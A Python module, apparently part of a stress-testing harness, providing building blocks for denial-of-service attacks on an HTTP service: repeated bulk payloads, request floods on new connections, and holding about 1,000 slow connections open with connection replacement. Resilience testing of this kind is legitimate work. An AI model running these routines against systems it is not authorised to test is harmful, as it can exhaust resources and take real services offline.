"""Building blocks of attack programs: blocking sockets, endless payloads, parsed status lines."""

import re
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import ExitStack, suppress
from typing import NamedTuple

PIECE = 65_536
CONNECTIONS = 1_000  # held at once
ATTEMPTS, ATTEMPTS_SECONDS = (
    20,
    0.01,
)  # connections that are opened before a pause: 2,000 per second
_STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")


class Target(NamedTuple):
    """The service under attack, the duration, and a credential for attacks by a known caller."""

    host: str
    port: int
    seconds: float
    key: str = ""

    def connect(self, **options: int) -> socket.socket:
        """Open a connection whose operations raise `TimeoutError` after the attack's duration."""
        client = socket.create_connection((self.host, self.port), timeout=self.seconds)
        for name, value in options.items():
            client.setsockopt(socket.SOL_SOCKET, getattr(socket, name), value)
        return client

    def head(self, method: str = "GET", path: str = "/health/live", *fields: str) -> bytes:
        """Return a request head with the credential, without the final empty line."""
        key = [f"Authorization: Bearer {self.key}"] if self.key else []
        lines = [f"{method} {path} HTTP/1.1", "Host: localhost", *key, *fields]
        return "".join(f"{line}\r\n" for line in lines).encode()

    def request(self, method: str, path: str, body: bytes = b"") -> bytes:
        """Return a complete request with a JSON body."""
        fields = [f"Content-Length: {len(body)}", "Content-Type: application/json"] if body else []
        return self.head(method, path, *fields) + b"\r\n" + body


class Outcome(NamedTuple):
    """Result of an attack: final statuses, bytes sent, connections opened and closed."""

    statuses: Counter[int]
    sent: int = 0
    closed: int = 0
    opened: int = 0
    last: str = ""


def repeat(piece: bytes, bytes_max: int) -> Iterator[bytes]:
    """Repeat the piece in blocks, `bytes_max` bytes in all."""
    block = piece * max(1, PIECE // len(piece))
    for _ in range(max(1, bytes_max // len(block))):
        yield block


def send_all(client: socket.socket, blocks: Iterable[bytes], seconds: float) -> tuple[int, bool]:
    """Send for `seconds`; return (bytes sent, whether the service closed the connection)."""
    ends, sent = time.monotonic() + seconds, 0
    for block in blocks:
        client.settimeout(max(0.01, ends - time.monotonic()))
        try:
            client.sendall(block)
        except TimeoutError:
            break
        except OSError:
            return sent, True
        sent += len(block)
        if time.monotonic() > ends:
            break
    return sent, False


def receive_all(
    client: socket.socket, seconds: float, bytes_max: int = 4_000_000
) -> tuple[bytes, bool]:
    """Receive for `seconds`; return (data, whether the service closed the connection)."""
    ends, data = time.monotonic() + seconds, b""
    with suppress(TimeoutError):
        while len(data) < bytes_max:
            client.settimeout(max(0.01, ends - time.monotonic()))
            try:
                piece = client.recv(PIECE)
            except ConnectionError:
                return data, True
            if not piece:
                return data, True
            data += piece
    return data, False


def statuses_of(data: bytes) -> Counter[int]:
    """Return the statuses of all responses, interim responses excepted."""
    return Counter(status for match in _STATUS.finditer(data) if (status := int(match[1])) >= 200)


def send_again_and_again(target: Target, make_blocks: Callable[[], Iterable[bytes]]) -> Outcome:
    """Open one connection after another until the attack ends; read each to its end."""
    outcomes: list[Outcome] = []
    ends = time.monotonic() + target.seconds
    while not outcomes or time.monotonic() < ends:
        with target.connect() as client:
            sent, _ = send_all(client, make_blocks(), target.seconds)
            data, closed = receive_all(client, target.seconds)
        outcomes.append(
            Outcome(statuses_of(data), sent, int(closed), 1, data[-2000:].decode("latin-1"))
        )
    return add(outcomes)


def ask_again_and_again(
    target: Target, path: str, body: bytes, content_type: str = "application/json"
) -> Outcome:
    """Repeat the same request, each time on a new connection."""
    head = target.head(
        "POST", path, f"Content-Type: {content_type}", f"Content-Length: {len(body)}"
    )
    blocks = [body[begin : begin + PIECE] for begin in range(0, len(body), PIECE)]
    return send_again_and_again(target, lambda: [head + b"Connection: close\r\n\r\n", *blocks])


def hold_connections(
    target: Target, pieces: Sequence[bytes], *, shut: bool = False, **options: int
) -> Outcome:
    """Hold many connections and send them the pieces in turns; replace closed ones."""
    ends, opened, closed, sent = time.monotonic() + target.seconds, 0, 0, 0
    clients: dict[socket.socket, int] = {}
    with ExitStack() as stack:
        while time.monotonic() < ends:
            for _ in range(min(ATTEMPTS, CONNECTIONS - len(clients))):
                client = stack.enter_context(target.connect(**options))
                client.setblocking(False)
                clients[client] = 0
                opened += 1
            for client, place in list(clients.items()):
                try:
                    if place < len(pieces):
                        sent += client.send(pieces[place])
                        clients[client] = place + 1
                        if shut:
                            client.shutdown(socket.SHUT_WR)
                    elif not options and client.recv(PIECE) == b"":
                        raise ConnectionError("closed")
                except BlockingIOError:
                    pass
                except OSError:
                    closed += 1
                    del clients[client]
                    client.close()
            time.sleep(ATTEMPTS_SECONDS)
    return Outcome(Counter(), sent, closed, opened)


def add(outcomes: Iterable[Outcome]) -> Outcome:
    """Add several outcomes."""
    total = Outcome(Counter())
    for outcome in outcomes:
        total = Outcome(
            total.statuses + outcome.statuses,
            total.sent + outcome.sent,
            total.closed + outcome.closed,
            total.opened + outcome.opened,
            outcome.last or total.last,
        )
    return total
